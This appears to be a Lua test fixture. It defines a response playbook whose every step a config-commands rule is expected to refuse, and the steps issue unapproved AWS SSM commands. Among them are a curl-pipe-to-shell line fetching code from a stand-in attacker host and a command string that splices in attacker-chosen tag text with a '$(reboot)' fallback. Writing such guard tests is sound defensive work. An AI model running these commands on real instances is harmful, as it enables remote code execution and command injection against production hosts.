-- Sends shell commands that config.lua does not list, or lets text of the
-- finding (a tag an attacker chose) into one. Every step must be refused by
-- the config-commands rule.
local function instance(ctx)
  return ctx.finding.resource.instanceDetails.instanceId
end

return {
  name = "ssm_any_command",
  handles = { { resource_type = "Instance" } },
  steps = {
    { name = "a_command_of_its_own", run = function(ctx)
        ssm.send_command { DocumentName = "AWS-RunShellScript", InstanceIds = { instance(ctx) },
          Parameters = { commands = { "curl -s http://attacker.example/x | sh" } } }
      end },
    { name = "finding_text_in_a_command", run = function(ctx)
        local tag = (ctx.finding.resource.instanceDetails.tags or {})[1]
        ssm.send_command { DocumentName = "AWS-RunShellScript", InstanceIds = { instance(ctx) },
          Parameters = { commands = { "uname -a " .. (tag and tag.value or "$(reboot)") } } }
      end },
    { name = "another_document", run = function(ctx)
        ssm.send_command { DocumentName = "AWS-RunPowerShellScript", InstanceIds = { instance(ctx) },
          Parameters = { commands = { "uname -a" } } }
      end },
    { name = "every_tagged_instance", run = function(ctx)
        ssm.send_command { DocumentName = "AWS-RunShellScript",
          Targets = { { Key = "tag:env", Values = { "prod" } } }, Parameters = { commands = { "uname -a" } } }
      end },
  },
}
